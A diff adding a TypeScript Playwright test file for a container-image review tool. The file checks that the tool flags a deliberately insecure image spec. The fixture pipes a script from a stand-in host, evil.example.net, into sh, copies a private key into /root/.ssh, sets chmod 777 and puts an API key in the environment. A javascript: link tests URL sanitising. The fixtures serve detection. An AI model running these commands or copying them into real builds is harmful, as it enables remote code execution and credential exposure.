@@ -1,0 +1,203 @@
+// A bad change, as a reviewer meets it.
+import { Image } from "pithy-image";
+import { type PreparedSpec, previewSpec } from "pithy-image-preview/server";
+import type { Page } from "playwright-core";
+import { beforeAll, describe, expect, test } from "vitest";
+import { inLine, NARROW, stepsOf, useBrowser, verdictOf } from "./browser.ts";
+import { project } from "./project.ts";
+
+const { open } = useBrowser();
+
+const SCRIPT = "set -e\ncd /app\npython -m venv .venv\n.venv/bin/pip install --upgrade pip\n";
+
+const good = () =>
+  Image.base("python:3.12-slim-bookworm")
+    .runCommands(
+      `curl -fsSLO https://downloads.example.com/tool.tgz && echo "${"a".repeat(64)}  tool.tgz" | sha256sum -c`,
+    )
+    .addLocalDir("src", "/app")
+    .runScript(SCRIPT)
+    .env({ LOG: "info" })
+    .user("nobody");
+
+const KEY = "q8Zr2LkV9mXw4TnB7cJd5HsF";
+
+const bad = () =>
+  Image.base("python:latest")
+    .runCommands("curl -fsSL https://evil.example.net/tool.sh | sh")
+    .addLocalDir("src", "/app")
+    .addLocalDir("keys", "/root/.ssh")
+    .runScript(SCRIPT.replace("--upgrade pip", "--upgrade pip openai").concat("chmod 777 /app\n"))
+    .env({ LOG: "info", API_KEY: KEY });
+
+const PRIVATE_KEY =
+  "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n-----END OPENSSH PRIVATE KEY-----\n";
+
+let baseline: PreparedSpec;
+let spec: PreparedSpec;
+let page: Page;
+
+beforeAll(async () => {
+  baseline = await previewSpec(good(), { root: project({ "src/main.py": "print(1)\n" }) });
+  spec = await previewSpec(bad(), { root: project({ "src/main.py": "print(2)\n", "keys/id_ed25519": PRIVATE_KEY }) });
+});
+
+describe("what is dangerous", () => {
+  test("is said on top, by its severity, and in a list that leads to the steps", async () => {
+    page = await open({ spec, baseline });
+    await verdictOf(page).getByText("changed; ").waitFor();
+    expect(inLine(await verdictOf(page).locator(".pithy-summary").innerText())).toBe(
+      "Changed; 6 of 6 steps built again 2 errors, 6 warnings",
+    );
+    const findings = page.getByRole("region", { name: "Findings" }).getByRole("listitem");
+    const rows = (await findings.allInnerTexts()).map(inLine);
+    const expected = [
+      /^error This is a secret.* secret_in_variable new 6 env/,
+      /^error keys\/id_ed25519 is a private key.* private_key_sent new 4 addLocalDir/,
+      /^warning python:latest .* unpinned_base new 1 base/,
+      /^warning .*evil\.example\.net.* pipe_to_shell new 2 runCommands/,
+      /^warning chmod 777 .* world_writable new 5 runScript/,
+      /^warning The image runs as root now.* user_removed new/,
+      /^warning A checksum .* checksum_removed new 2 runCommands/,
+      /^warning evil\.example\.net is a new host.* download_host_changed new 2 runCommands/,
+    ];
+    expect(rows).toHaveLength(expected.length);
+    for (const what of expected) expect(rows).toContainEqual(expect.stringMatching(what));
+    await findings.first().getByRole("link", { name: "6 env" }).click();
+    expect(await stepsOf(page).locator("[aria-current=true]").innerText()).toContain("API_KEY");
+  });
+
+  test("is at its step as well", async () => {
+    page = await open({ spec, baseline });
+    const step = stepsOf(page).getByRole("listitem").filter({ hasText: "Copies what is in keys" });
+    expect(inLine(await step.locator(".pithy-finding-error").innerText())).toMatch(/is a private key/);
+  });
+
+  test("is said of an image alone, too", async () => {
+    page = await open({ spec: { ...spec, callSites: {} } });
+    const summary = page.getByRole("region", { name: "Summary" });
+    expect(inLine(await summary.locator(".pithy-summary").innerText())).toMatch(/^6 steps 2 errors, 3 warnings/);
+  });
+
+  test("that is about no step is in the list", async () => {
+    const [finding] = spec.resolved?.findings ?? [];
+    if (!spec.resolved || !finding) throw new Error("no finding");
+    const whole = { ...finding, path: "", message: "It is all too large." };
+    page = await open({ spec: { ...spec, resolved: { ...spec.resolved, findings: [whole] } } });
+    await page.getByRole("region", { name: "Findings" }).getByText("It is all too large.").waitFor();
+  });
+
+  test("shows no secret anywhere", async () => {
+    page = await open({ spec, baseline });
+    await verdictOf(page).waitFor();
+    expect(await page.content()).not.toContain(KEY);
+  });
+});
+
+describe("a text of several lines", () => {
+  const diffOf = (page: Page) => stepsOf(page).getByRole("figure", { name: "script" });
+
+  test("is compared line by line, and word by word within a line", async () => {
+    page = await open({ spec, baseline });
+    const diff = diffOf(page);
+    expect(inLine(await diff.getByText("lines added").innerText())).toBe("2 lines added, 1 line removed");
+    expect(await diff.locator(".pithy-diff-line.pithy-removed").allInnerTexts()).toEqual([
+      expect.stringContaining(".venv/bin/pip install --upgrade pip"),
+    ]);
+    expect((await diff.locator("ins").allInnerTexts()).join("")).toContain("openai");
+  });
+
+  test("is shown whole, and side by side", async () => {
+    const long = (last: string) => Image.base("a:1").runScript(`${"echo same\n".repeat(30)}${last}\n`);
+    page = await open({ spec: await previewSpec(long("after")), baseline: await previewSpec(long("before")) });
+    const diff = diffOf(page);
+    const lines = diff.locator(".pithy-diff-line");
+    await expect.poll(() => lines.count()).toBe(5);
+    await diff.getByRole("button", { name: "Changes only" }).click();
+    await expect.poll(() => lines.count()).toBe(32);
+    await diff.getByRole("button", { name: "Side by side" }).click();
+    const last = diff.locator(".pithy-diff-pair").last();
+    expect((await last.locator("code").allInnerTexts()).map(inLine)).toEqual(["removed: before", "added: after"]);
+  });
+});
+
+describe("addresses", () => {
+  test("lead to a step, and choose it", async () => {
+    page = await open({ spec, baseline });
+    await page.goto(`${page.url()}#step-5`);
+    await page.reload();
+    const chosen = stepsOf(page).locator("[aria-current=true]");
+    await chosen.waitFor();
+    expect(await chosen.locator(".pithy-call").innerText()).toBe("runScript");
+    await expect.poll(() => isInView(page, "#step-5")).toBe(true);
+  });
+
+  test("lead to a finding", async () => {
+    page = await open({ spec, baseline }, { viewport: NARROW });
+    await page.goto(`${page.url()}#finding-7`);
+    await page.reload();
+    await page.locator("#finding-7").waitFor();
+    await expect.poll(() => isInView(page, "#finding-7")).toBe(true);
+  });
+
+  test("are those of the strip", async () => {
+    page = await open({ spec, baseline });
+    await verdictOf(page).getByText("changed; ").waitFor();
+    const cells = page.getByRole("list", { name: "Steps at a glance" }).getByRole("link");
+    const labels = await cells.evaluateAll((all) => all.map((cell) => cell.getAttribute("aria-label")));
+    expect(labels).toEqual([
+      "1 base: changed",
+      "2 runCommands: changed",
+      "3 addLocalDir: changed",
+      "4 addLocalDir: added",
+      "5 runScript: changed",
+      "6 env: changed",
+      "6 user: removed",
+    ]);
+    await cells.nth(4).click();
+    expect(new URL(page.url()).hash).toBe("#step-5");
+    await expect.poll(() => isInView(page, "#step-5")).toBe(true);
+  });
+});
+
+const isInView = (page: Page, selector: string): Promise<boolean> =>
+  page.locator(selector).evaluate((element) => {
+    const { top, bottom } = element.getBoundingClientRect();
+    return bottom > 0 && top < innerHeight;
+  });
+
+describe("the wheel", () => {
+  test.each([
+    ["wide", { width: 1440, height: 700 }],
+    ["narrow", NARROW],
+  ])("scrolls the page wherever the mouse is: %s", async (_, viewport) => {
+    page = await open({ spec, baseline }, { viewport });
+    await stepsOf(page).waitFor();
+    for (const name of ["Steps", "Dockerfile", "Files"]) {
+      const region = page.getByRole("region", { name, exact: true });
+      await region.scrollIntoViewIfNeeded();
+      const box = await region.boundingBox();
+      if (!box) throw new Error(name);
+      await page.mouse.move(box.x + box.width / 2, Math.max(Math.min(box.y + box.height / 2, viewport.height - 5), 5));
+      const there = () => page.evaluate(() => scrollY);
+      for (let turns = 0; turns < 30 && (await there()) > 0; turns++) await page.mouse.wheel(0, -400);
+      await expect.poll(there).toBe(0);
+    }
+  });
+});
+
+test("call sites lead to the repository's host, and to nothing else", async () => {
+  const callSites = { "/steps/0": "lib/im age.ts:3:7", "/steps/1": "lib/image.ts:4:7" };
+  const link = async (sourceLink: string) => {
+    const page = await open({ spec: { ...spec, callSites }, sourceLink });
+    await stepsOf(page).locator(".pithy-call-site").first().waitFor();
+    return stepsOf(page)
+      .locator("a.pithy-call-site")
+      .evaluateAll((all) => all.map((one) => (one as HTMLAnchorElement).href));
+  };
+  expect(await link("https://host.example/blob/1a2b/{path}#L{line}")).toEqual([
+    "https://host.example/blob/1a2b/lib/im%20age.ts#L3",
+    "https://host.example/blob/1a2b/lib/image.ts#L4",
+  ]);
+  expect(await link("javascript:alert('{path}')")).toEqual([]);
+});
